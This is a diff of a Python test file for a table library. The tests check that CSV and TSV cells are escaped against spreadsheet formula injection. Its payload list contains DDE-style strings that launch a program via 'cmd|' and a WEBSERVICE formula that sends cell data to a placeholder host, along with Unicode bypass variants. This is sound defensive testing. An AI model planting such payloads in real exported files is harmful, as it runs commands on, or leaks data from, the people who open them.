@@ -37,15 +37,9 @@ def test_no_part_of_a_safe_cell_is_a_formula(cell: str) -> None:
 
 PAYLOADS = [
     *("=A1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+2+3+cmd|' /C calc'!A0"),
-    *(
-        *('-1+HYPERLINK("http://x","y")', '-2+WEBSERVICE("http://x/"&A1)', "-(1)+A1", "-.5+A1"),
-        "+.;A1",
-    ),
-    *(
-        *("-5\n+A1", "-5\t", "- -A1", "−2+A1", "＝A1", "＋A1", "－A1", "＠SUM(A1)", " =A1"),
-        "\u00a0-A1",
-    ),
-    *("\ufeff=A1", "\0=A1", "\t=A1", "\r=A1", "\n=5", "-", "+; x", "+1e5", "-٣"),
+    *('-1+HYPERLINK("http://x","y")', '-2+WEBSERVICE("http://x/"&A1)', "-(1)+A1", "-.5+A1"),
+    *("-5\n+A1", "-5\t", "- -A1", "−2+A1", "＝A1", "＋A1", "－A1", "＠SUM(A1)", " =A1", "+.;A1"),
+    *("\u00a0-A1", "\ufeff=A1", "\0=A1", "\t=A1", "\r=A1", "\n=5", "-", "+; x", "+1e5", "-٣"),
     *("-1/2/3", "-1.", "'=A1", '"=A1"', "\u2060=A1"),
 ]
 # A spreadsheet can split a cell at ; and at line ends.
@@ -61,8 +55,7 @@ def test_spreadsheets_do_not_run_a_cell(payload: str) -> None:
     assert safe.replace("'", "") == payload.replace("'", "")
     row: dict[str, Any] = {"name": payload, payload: 1}
     written = "\n".join(tables.TABLE_FORMATS["csv"].lines([row], list(row)))
-    for cells in csv.reader(io.StringIO(written, newline="")):
-        assert safe in cells
+    assert all(safe in cells for cells in csv.reader(io.StringIO(written, newline="")))
     for line in tables.TABLE_FORMATS["tsv"].lines([row], list(row)):
         assert any(cell.startswith("'") for cell in line.split("\t"))
 
@@ -82,15 +75,12 @@ def test_numbers_and_other_texts_are_unchanged(cell: str) -> None:
 
 
 def test_after_a_sign_only_a_number_is_safe() -> None:
-    for letters in product(*(("", *"5./ x;\n٥"),) * 4):
-        number = "".join(letters).removeprefix(" ")
-        parts = re.split("[./]", number, maxsplit=1)
-        digits = all(part.isdecimal() for part in parts)
-        is_number = digits or (number[:1] == "." and number[1:].isdecimal())
+    for letters in map("".join, product(*(("", *"5./ x;\n٥"),) * 4)):
+        number = letters.removeprefix(" ")
+        is_number = all(part.isdecimal() for part in re.split("[./]", number, maxsplit=1))
+        is_safe = (is_number or re.fullmatch(r"\.\d+", number)) and letters.isascii()
         for sign in "+-−＋－":
-            cell = sign + "".join(letters)
-            is_safe = is_number and cell[1:].isascii()
-            assert (tables.safe_cell(cell) == cell) == is_safe, cell
+            assert (tables.safe_cell(sign + letters) == sign + letters) == bool(is_safe), letters
 
 
 @given(st.sampled_from("=@\t\r\n＝＠"), st.text())
@@ -99,16 +89,11 @@ def test_cells_with_other_signs_are_never_safe(sign: str, rest: str) -> None:
 
 
 @given(st.lists(st.lists(st.text(), min_size=2, max_size=2), min_size=1))
-def test_csv_can_be_read_back(cells: list[list[str]]) -> None:
+def test_csv_can_be_read_back_and_a_row_of_tsv_is_one_line(cells: list[list[str]]) -> None:
     rows = [{"a": first, "b": second} for first, second in cells]
     text = "\n".join(tables.TABLE_FORMATS["csv"].lines(rows, ["a", "b"]))
     read = list(csv.reader(io.StringIO(text, newline="")))
     assert [[tables.plain_cell(cell) for cell in row] for row in read] == [["a", "b"], *cells]
-
-
-@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), min_size=1))
-def test_row_of_tsv_is_one_line_with_tabs(cells: list[list[str]]) -> None:
-    rows = [{"a": first, "b": second} for first, second in cells]
     lines = list(tables.TABLE_FORMATS["tsv"].lines(rows, ["a", "b"]))
     assert [line.count("\t") for line in lines] == [1] * (len(cells) + 1)
     assert all("\n" not in line and "\r" not in line for line in lines)
@@ -197,11 +182,9 @@ def test_column_of_text_is_at_least_as_wide_as_its_longest_word() -> None:
 
 
 def test_too_wide_table_has_a_paragraph_per_row_with_indented_lines() -> None:
-    rows = [{f"key{place}": 10**9 + place for place in range(12)} for _ in range(2)]
-    first, second = tables.render(rows, width=60).split("\n\n")
-    assert first == second
-    begin, *_, end = first.splitlines()
-    assert (begin, end) == ("key0   1000000000", "key11  1000000011")
+    rows = [{f"key{place}": 10**9 + place for place in range(12)}] * 2
+    lines = [f"key{place:<2}  {10**9 + place}" for place in range(12)]
+    assert tables.render(rows, width=60) == "\n".join([*lines, "", *lines])
     text = tables.render([{"number": 12, "text": "a text of twenty-two"}], width=18)
     assert text == "number  12\ntext    a text of\n        twenty-two"
 
